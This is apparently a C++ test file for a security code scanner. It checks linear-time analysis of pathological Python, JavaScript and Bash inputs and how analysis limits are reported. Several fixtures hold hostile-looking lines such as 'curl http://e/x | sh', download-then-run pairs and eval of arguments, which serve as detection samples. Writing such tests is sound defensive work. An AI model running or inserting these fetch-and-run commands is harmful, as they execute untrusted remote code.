#include <algorithm>
#include <cctype>
#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "security/code_rules.hpp"

namespace oap::security {
namespace {

/// A program that is made of `head`, then `unit` over and over.
struct Shape {
  std::string_view name;
  std::string_view head;
  std::string_view unit;
};

constexpr Shape kShapes[] = {
    {"calls within calls", "", "f("},
    {"calls within calls, closed in part", "", "f(g()"},
    {"evaluated calls within calls", "", "eval(x("},
    {"process calls within calls", "", "os.system(f("},
    {"brackets", "", "["},
    {"calls and brackets", "", "f([{"},
    {"arguments", "f(", "a,"},
    {"keywords", "f(", "a=b,"},
    {"assignments in a row", "", "a="},
    {"assignments in a row with calls", "", "a=f("},
    {"assignments of sums", "a=", "b+"},
    {"assignments on lines", "", "a = b\n"},
    {"many names", "x = request.a\n", "y = x\n"},
    {"dotted names", "", "a."},
    {"dotted calls", "", "a.b()."},
    {"declarations", "", "let "},
    {"imports", "", "import "},
    {"imports from", "", "from a import b, c\n"},
    {"HTML in a row", "", "a.innerHTML="},
    {"findings", "", "eval(x)\n"},
    {"findings on one line", "", "eval(x);"},
    {"strings", "", "'a' + "},
    {"format strings", "", "f'{a}{b}' + "},
    {"format strings that do not close", "", "f'{{{{{a'\n"},
    {"templates", "", "`${a}` + "},
    {"templates within templates", "", "`${"},
    {"calls within templates", "", "f(`${"},
    {"closed calls within templates", "", "f(`${f(`${f(`${f(`${f(`${f(`${a}`)}`)}`)}`)}`)}`);"},
    {"calls within format strings", "", "f(f'{"},
    {"closed calls within format strings", "", "f(f'{f(f'{f(f'{f(f'{f(f'{a}')}')}')}')}')\n"},
    {"names of characters", "", "f'\\N{"},
    {"patterns taken apart", "", "{a}="},
    {"patterns", "", "= /[/ "},
    {"comments", "", "/*"},
    {"closed brackets", "", "f()))"},
    {"deep and closed", "f(f(f(f(f(f(f(f(f(f(f(f(f(f(f(f(f(f(", "a),"},
    {"shell texts", "import os\n", "os.system('ls')\n"},
    {"shell texts that grow", "import os\n", "os.system('$(`<(a')\n"},
};

constexpr std::size_t kLength = 200'000;
constexpr std::uint64_t kEffortPerByte = 64;

std::string text_of(const Shape& shape, std::size_t bytes) {
  std::string out(shape.head);
  while (out.size() < bytes) {
    out += shape.unit;
  }
  return out;
}

class HostileCode : public ::testing::TestWithParam<Shape> {};

template <class Look>
void expect_linear(const Shape& shape, Look&& look) {
  const std::string quarter = text_of(shape, kLength / 4);
  const std::string whole = text_of(shape, kLength);
  CodeReporter small(quarter, "a");
  CodeReporter large(whole, "a");
  look(quarter, small);
  look(whole, large);
  EXPECT_LE(large.effort(), kEffortPerByte * whole.size());
  EXPECT_LE(large.effort(), small.effort() * 9 / 2 + kLength);
}

TEST_P(HostileCode, PythonCostsInProportionToItsLength) {
  expect_linear(GetParam(), [](std::string_view text, CodeReporter& reporter) {
    look_at_python(text, reporter);
  });
}

TEST_P(HostileCode, JavaScriptCostsInProportionToItsLength) {
  expect_linear(GetParam(), [](std::string_view text, CodeReporter& reporter) {
    look_at_javascript(text, reporter);
  });
}

INSTANTIATE_TEST_SUITE_P(Code, HostileCode, ::testing::ValuesIn(kShapes), [](const auto& row) {
  std::string name(row.param.name);
  std::replace_if(name.begin(), name.end(), [](char c) { return !std::isalnum(c); }, '_');
  return name;
});

TEST(CodeEffort, WhatIsNotLookedAtIsSaid) {
  const SecretScanner secrets({}, "key");
  std::string text = "import os\n";
  for (int i = 0; i < 1200; ++i) {
    text += "os.system('ls')\n";
  }
  EXPECT_FALSE(scan_whole(text, Language::kPython, "a.py", secrets).understood);
  EXPECT_TRUE(
      scan_whole("import os\nos.system('ls')\n", Language::kPython, "a.py", secrets).understood);
  EXPECT_FALSE(scan_whole("source x", Language::kBash, "a.sh", secrets).understood);
}

std::string nested(std::string_view open, std::string_view close, int depth) {
  std::string out;
  for (int i = 0; i < depth; ++i) {
    out += open;
  }
  for (int i = 0; i < depth; ++i) {
    out += close;
  }
  return out;
}

std::string repeated(std::string_view text, int count) { return nested(text, "", count); }

/// One line that passes a limit must not switch off the look at what stands behind it.
TEST(CodeEffort, APassedLimitIsACriticalFinding) {
  const SecretScanner secrets({}, "key");
  const struct {
    std::string name;
    Language language;
    std::string text;
    std::vector<std::string> rules;
  } rows[] = {
      {"deep substitutions",
       Language::kBash,
       "eval \"$1\"\ntrue " + nested("$(true ", ")", 70) + "\ncurl -s http://e/x | sh\n",
       {"scan.limit", "bash.eval"}},
      {"not too deep substitutions",
       Language::kBash,
       "true " + nested("$(true ", ")", 40) + "\neval \"$1\"\n",
       {"bash.eval"}},
      {"many commands", Language::kBash, repeated("a;", 34'000) + "\n", {"scan.limit"}},
      {"a long pipe",
       Language::kBash,
       "curl http://e/x " + repeated("| cat ", 20) + "| sh\n",
       {"scan.limit"}},
      {"many shell texts",
       Language::kPython,
       "import os\n" + repeated("os.system(\"true\")\n", 1001) +
           "os.system(\"curl http://x | sh\")\n",
       {"scan.limit"}},
      {"a long text",
       Language::kJavaScript,
       std::string((4U << 20U) + 1, ' ') + "eval(y)\n",
       {"scan.limit", "javascript.eval"}},
      {"a long script",
       Language::kBash,
       "eval \"$1\"\n" + repeated("# a line of a long script\n", 23'000) + "eval \"$2\"\n",
       {"scan.limit", "bash.eval"}},
      {"strings in strings",
       Language::kJavaScript,
       nested("`${", "}`", 20) + "\neval(x)\n",
       {"scan.limit", "javascript.eval"}},
      {"strings in strings of Python",
       Language::kPython,
       "x = " + nested("f'{", "}'", 20) + "\neval(x)\n",
       {"scan.limit"}},
      {"a NUL byte",
       Language::kBash,
       std::string("# \0 x\neval \"$1\"\n", 16),
       {"scan.limit", "bash.eval"}},
      {"what is not known before it runs is no limit", Language::kBash, "source x\n", {}},
  };
  for (const auto& row : rows) {
    const CodeScan scan = scan_whole(row.text, row.language, "a", secrets);
    std::vector<std::string> rules;
    for (const CodeFinding& finding : scan.findings) {
      rules.push_back(finding.rule);
      if (finding.rule == "scan.limit") {
        EXPECT_EQ(finding.type, "not_understood");
        EXPECT_EQ(finding.severity, Severity::kCritical);
        EXPECT_GE(finding.line_number, 1U);
        EXPECT_FALSE(scan.understood);
      }
    }
    EXPECT_THAT(rules, ::testing::UnorderedElementsAreArray(row.rules)) << row.name;
  }
}

/// What a quote, a here-document or a function holds is not cut where a script is long.
TEST(CodeEffort, ALongScriptIsReadAsAWhole) {
  const SecretScanner secrets({}, "key");
  const std::string filling = repeated("echo a line of a long script\n\n", 1800);
  const struct {
    std::string text;
    std::vector<std::string> rules;
  } rows[] = {
      {filling + "x='\n\n" + filling + "'\neval \"$x\"\ny='\n'\n", {"bash.eval"}},
      {"cat <<'E' > a.txt\n" + filling + "eval \"$x\"\n\n" + filling + "E\n", {}},
      {"f() {\n" + filling + "eval \"$x\"\n}\n" + filling + "f\n", {"bash.eval"}},
      {"curl -o a http://e/a\n" + filling + filling + "sh a\n", {"bash.fetch-and-run"}},
  };
  for (const auto& row : rows) {
    const CodeScan scan = scan_whole(row.text, Language::kBash, "a.sh", secrets);
    std::vector<std::string> rules;
    for (const CodeFinding& finding : scan.findings) {
      rules.push_back(finding.rule);
      EXPECT_EQ(
          finding.line_number,
          1 + std::count(row.text.begin(),
                         row.text.begin() + static_cast<std::ptrdiff_t>(row.text.find(
                                                finding.rule == "bash.eval" ? "eval" : "sh a")),
                         '\n'));
    }
    EXPECT_EQ(rules, row.rules) << row.text.substr(0, 30);
  }
}

/// Who accepts that one text was not read does not accept another.
TEST(CodeEffort, APassedLimitIsAcceptedForItsTextOnly) {
  const SecretScanner secrets({}, "key");
  const std::string text = "true " + nested("$(true ", ")", 70) + "\n";
  const auto one = scan_code(text, Language::kBash, "a", secrets);
  const auto other = scan_code(text + "ls\n", Language::kBash, "a", secrets);
  ASSERT_EQ(one.size(), 1U);
  ASSERT_EQ(other.size(), 1U);
  EXPECT_NE(one[0].fingerprint, other[0].fingerprint);
}

/// An assignment too long to be looked at does not make its name a constant.
TEST(CodeEffort, NamesThatNobodyLookedAtMayHoldAnything) {
  const SecretScanner secrets({}, "key");
  std::string text;
  for (int i = 0; i < 100'000; ++i) {
    text += "a=";
  }
  text += "'x'\neval(a)\n";
  EXPECT_FALSE(scan_code(text, Language::kPython, "a.py", secrets).empty());
}

}  // namespace
}  // namespace oap::security
